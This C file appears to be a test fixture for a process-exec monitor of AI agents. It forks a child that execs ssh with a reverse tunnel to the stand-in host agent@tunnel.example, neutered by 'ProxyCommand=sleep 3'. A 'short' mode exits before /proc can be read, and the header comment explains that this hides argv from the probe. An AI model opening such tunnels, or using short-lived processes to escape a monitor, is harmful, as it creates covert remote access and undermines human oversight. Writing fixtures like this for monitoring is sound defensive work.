/* A launcher that forks, and whose child execs ssh with a reverse tunnel named by
 * string literals, the way a small C program an agent writes would. The child has
 * not touched the pages holding those literals (fork does not copy page tables of
 * file-backed mappings), and an exec probe cannot fault them in: the kernel event
 * reads neither filename nor argv from them; the filename comes from the kernel's own
 * copy, argv back from /proc (argv_source) while the process lives.
 *
 * ssh never touches the network: its ProxyCommand is `sleep 3`, so it waits for a
 * server banner that never comes, then exits. With the argument "short" the child
 * execs /bin/true instead, gone before anyone reads /proc. Prints the child's pid.
 */
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	int short_lived = argc > 1 && !strcmp(argv[1], "short");
	pid_t pid = fork();
	if (pid == 0) {
		char *args[] = {"ssh", "-o", "ProxyCommand=sleep 3", "-o", "BatchMode=yes", "-N",
				"-R", "2222:127.0.0.1:22", "agent@tunnel.example", NULL};
		char *true_args[] = {"true", "literal", NULL};
		if (short_lived)
			execve("/bin/true", true_args, NULL);
		else
			execve("/usr/bin/ssh", args, NULL);
		_exit(127);
	}
	printf("%d\n", pid);
	fflush(stdout);
	waitpid(pid, NULL, 0);
	return 0;
}
